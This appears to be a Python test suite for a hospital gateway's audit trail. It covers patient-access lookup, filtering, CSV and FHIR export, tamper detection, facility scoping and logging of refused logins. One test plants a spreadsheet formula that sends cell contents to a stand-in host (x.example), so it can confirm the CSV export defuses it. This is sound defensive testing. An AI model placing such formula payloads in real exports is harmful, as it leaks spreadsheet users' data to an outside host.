"""A reviewer asks the trail who saw what, and in whose name; checks it; and takes it away."""

import asyncio
import csv
import io

import httpx
import msgspec
from fhir.resources.R4B.auditevent import AuditEvent

from gateway.config import policy_version
from gateway.demo.stage import Stage
from ledger.audit_trail import Evidence
from tests.journeys.front_doors import FACILITY, Floor, eventually, person
from tests.journeys.test_bad_input_hl7 import ER7, siu

EVENTS = "/experience/v1/security/audit-events"
IMPLANT = "(01)00844588017339(17)280331(10)LIMP002A"
CHECKS = "/experience/v1/security/audit-checks"


async def used(floor: Floor) -> tuple[str, str]:
    """A case that used something: its number and the transaction of its usage."""
    case = await floor.schedule("27447")
    control = await floor.use(case, {"udi": IMPLANT, "description": "x"})
    trace = await floor.until(
        control,
        lambda told: any(hop["name"] == "patient context opened" for hop in told["hops"]),
        "the charges are captured",
    )
    return case.number, trace["id"]


async def test_who_saw_a_patients_story_is_found_by_the_number_of_the_case(stage: Stage):
    floor = Floor(stage)
    number, transaction = await used(floor)
    nurse = await person(stage, "curious", "experience.operations:read")
    await floor.send(nurse, "GET", f"/experience/v1/operations/transactions/{transaction}")
    reviewer = await person(stage, "reviewer", "experience.security:read")

    asked = {"kind": "case", "facility": FACILITY, "number": number}
    links = await floor.send(reviewer, "POST", "/experience/v1/security/patient-links", json=asked)
    assert links.body["known"]
    assert transaction in links.body["transactions"]
    query = {"linked": links.body["name"], "evidence": "access", "limit": 500}
    seen = (await floor.send(reviewer, "GET", EVENTS, params=query)).body["items"]
    opened = next(row for row in seen if row["action"] == "patient context opened")
    assert (opened["actor"], opened["facility"]) == ("usage-to-replenishment", FACILITY)
    assert opened["object"].startswith("ctx_")
    assert opened["purpose"]
    looked = next(row for row in seen if row["actor"] == "curious")
    assert (looked["transaction"], looked["outcome"]) == (transaction, "200")

    # Any other name of that patient leads to the same records.
    for name in (opened["object"], transaction):
        again = await floor.send(reviewer, "GET", EVENTS, params={**query, "linked": name})
        assert opened["id"] in {row["id"] for row in again.body["items"]}
    everything = await stage.running.parts.ledger.database.rows(
        "select convert_from(record, 'UTF8') as record from audit"
    )
    assert [row["record"] for row in everything if number in row["record"]] == []


async def test_a_record_says_who_works_for_whom_and_by_which_configuration(stage: Stage):
    floor = Floor(stage)
    await floor.buy("IMP-10001")
    version = policy_version(stage.running.parts.config)
    page = await floor.operator.call("GET", EVENTS, params={"actor": "demo-operator"})
    call = next(row for row in page["items"] if row["action"].startswith("POST /process"))
    assert (call["policy"], call["address"], call["client"]) == (version, "", "")
    about = await floor.operator.call(
        "GET", EVENTS, params={"transaction": call["transaction"], "kind": "message"}
    )
    kept = about["items"][-1]
    assert (kept["policy"], kept["correlationId"]) == (version, call["correlationId"])


async def test_messages_over_mllp_have_an_id_and_the_configuration_too(stage: Stage):
    floor = Floor(stage)
    case = await floor.schedule("27447")
    await floor.sent(case.control)
    page = await floor.operator.call("GET", EVENTS, params={"kind": "message", "limit": 500})
    row = next(row for row in page["items"] if row["detail"].get("controlId") == case.control)
    assert row["policy"] == policy_version(stage.running.parts.config)
    assert len(row["correlationId"]) == 32


async def test_records_are_found_by_outcome_object_facility_and_time(stage: Stage):
    floor = Floor(stage)
    operator = floor.operator
    await floor.send(operator, "GET", "/experience/v1/operations/transactions/NOBODY-9")
    refused = await operator.call("GET", EVENTS, params={"outcome": "refused", "limit": 500})
    assert all(row["refused"] for row in refused["items"])
    missed = next(row for row in refused["items"] if row["object"] == "NOBODY-9")
    by_object = await operator.call("GET", EVENTS, params={"object": "NOBODY-9"})
    assert [row["id"] for row in by_object["items"]] == [missed["id"]]
    same = await operator.call(
        "GET", EVENTS, params={"outcome": "not-found", "since": missed["at"], "limit": 500}
    )
    assert missed["id"] in {row["id"] for row in same["items"]}
    before = await operator.call("GET", EVENTS, params={"before": missed["at"], "limit": 500})
    assert missed["id"] not in {row["id"] for row in before["items"]}
    well = await operator.call("GET", EVENTS, params={"outcome": "ok", "limit": 500})
    assert not any(row["refused"] for row in well["items"])
    assert (await operator.call("GET", EVENTS, params={"facility": "9999"}))["items"] == []


async def test_who_reads_the_trail_is_in_it_with_the_question(stage: Stage):
    operator = stage.people["operator"]
    await operator.call("GET", "/process/v1/tasks")
    await operator.call("GET", EVENTS, params={"actor": "demo-operator"})
    await operator.call("GET", EVENTS, params={"linked": "MRN-000001"})
    page = await operator.call("GET", EVENTS, params={"kind": "call"})
    questions = [row["object"] for row in page["items"] if row["action"] == f"GET {EVENTS}"]
    assert "audit actor=demo-operator" in questions
    assert "audit linked=…" in questions  # what nobody goes by may be a patient's number


async def test_csv_has_every_record_and_no_formula(stage: Stage):
    operator, ledger = stage.people["operator"], stage.running.parts.ledger
    hostile = '=HYPERLINK("http://x.example?"&A1,"ok")'
    recorded = []
    for n in range(1200):
        told = {"kind": "call", "action": f"GET /{n}", "outcome": "200", "object": hostile}
        recorded.append(ledger.record(Evidence(actor="bulk", **told)))
    await asyncio.gather(*recorded)
    async with httpx.AsyncClient(base_url=stage.running.url) as http:
        answer = await http.get(
            f"{EVENTS}/csv",
            params={"actor": "bulk"},
            headers={"authorization": f"Bearer {operator.token or await signed_in(operator)}"},
        )
    assert answer.headers["content-disposition"] == 'attachment; filename="audit.csv"'
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == len({row["id"] for row in rows}) == 1200
    assert {row["object"] for row in rows} == {f"'{hostile}"}
    assert [row["at"] for row in rows] == sorted((row["at"] for row in rows), reverse=True)
    page = await operator.call("GET", EVENTS, params={"kind": "access", "actor": operator.client})
    assert page["items"][0]["action"] == "export audit records as CSV"
    assert page["items"][0]["detail"]["records"] == "1200"


async def signed_in(someone) -> str:
    await someone.sign_in()
    return str(someone.token)


async def test_evidence_is_exported_as_fhir_audit_events(stage: Stage):
    operator = stage.people["operator"]
    token = await signed_in(operator)
    async with httpx.AsyncClient(base_url=stage.running.url) as http:
        answer = await http.get(
            f"{EVENTS}/ndjson",
            params={"kind": "call"},
            headers={"authorization": f"Bearer {token}"},
        )
    assert answer.headers["content-type"].startswith("application/fhir+ndjson")
    events = [AuditEvent.model_validate_json(line) for line in answer.text.splitlines()]
    version = policy_version(stage.running.parts.config)
    assert any(f"urn:suture:policy:{version}" in (each.agent[0].policy or ()) for each in events)


async def test_the_trail_is_verified_as_a_job_that_names_what_is_broken(stage: Stage):
    floor, ledger = Floor(stage), stage.running.parts.ledger

    async def checked():
        asked = await floor.operator.call("POST", CHECKS)
        assert asked["status"] == "queued"

        async def done():
            told = await floor.operator.call("GET", f"{CHECKS}/{asked['id']}")
            return told if told["status"] == "done" else None

        return (await eventually(done, "the trail is verified"))["verdict"]

    whole = await checked()
    assert whole["broken"] == []
    assert whole["records"] > 0
    row = await ledger.database.row(
        "select chain, seq from audit where actor = 'demo-operator' order by at limit 1"
    )
    await ledger.database.run(
        "update audit set refusal = 'forbidden' where chain = $1 and seq = $2", *row
    )
    broken = (await checked())["broken"]
    assert [(link["chain"], link["seq"]) for link in broken] == [(row["chain"], row["seq"])]
    assert "outcome" in broken[0]["reason"]

    async def alerted():
        tasks = (await floor.operator.call("GET", "/process/v1/tasks?owner=security"))["items"]
        return [task for task in tasks if task["reason"] == "audit-broken"]

    [task] = await eventually(alerted, "security is alerted")
    assert task["actions"] == ["acknowledge"]


async def test_a_reviewer_of_one_facility_sees_its_records_alone(stage: Stage):
    ledger = stage.running.parts.ledger
    for place in ("1710", "1720", ""):
        told = {"kind": "call", "actor": "a", "action": "GET /x", "outcome": "200"}
        await ledger.record(Evidence(**told, facility=place))
    floor = Floor(stage)
    reviewer = await person(
        stage, "local-reviewer", "experience.security:read", facilities=("1720",)
    )
    rows = (await floor.send(reviewer, "GET", EVENTS, params={"limit": 500})).body["items"]
    assert {row["facility"] for row in rows} == {"1720"}
    asked = {"kind": "case", "facility": "1710", "number": "CASE-1"}
    links = await floor.send(reviewer, "POST", "/experience/v1/security/patient-links", json=asked)
    assert links.status == 403
    assert msgspec.json.decode(links.raw)["where"] == "$.facility"


async def test_what_many_callers_do_at_once_is_recorded_each_under_their_own_call(stage: Stage):
    """The call in hand is that of one request, whatever else the server does meanwhile."""
    sender = await person(stage, "sender", "system.ehr.hl7v2:write")
    async with httpx.AsyncClient(base_url=stage.running.url, timeout=30) as http:

        async def send(number: int) -> None:
            control = f"TOGETHER-{number}"
            given = {"authorization": f"Bearer {sender.token}", "x-correlation-id": control}
            body = siu(control, procedure="99999^Unknown^C4").encode()
            answer = await http.post("/system/v1/ehr/hl7v2", content=body, headers=given | ER7)
            assert answer.status_code == 200

        await asyncio.gather(*(send(number) for number in range(80)))
    floor = Floor(stage)
    page = await floor.operator.call("GET", EVENTS, params={"kind": "message", "limit": 500})
    told = {row["detail"]["controlId"]: row["correlationId"] for row in page["items"]}
    assert all(told[f"TOGETHER-{number}"] == f"TOGETHER-{number}" for number in range(80))


async def test_a_token_that_is_asked_for_is_recorded_under_its_call(stage: Stage):
    async with httpx.AsyncClient(base_url=stage.running.url) as http:
        form = {"grant_type": "client_credentials"}
        given = {"x-correlation-id": "guessing"}
        asked = ("demo-operator", "guess")
        answer = await http.post("/oauth/token", data=form, auth=asked, headers=given)
    assert answer.status_code == 401
    floor = Floor(stage)
    page = await floor.operator.call("GET", EVENTS, params={"outcome": "refused", "limit": 500})
    same = [row for row in page["items"] if row["correlationId"] == "guessing"]
    assert {row["kind"] for row in same} == {"call", "access"}
    assert all(row["policy"] for row in same)
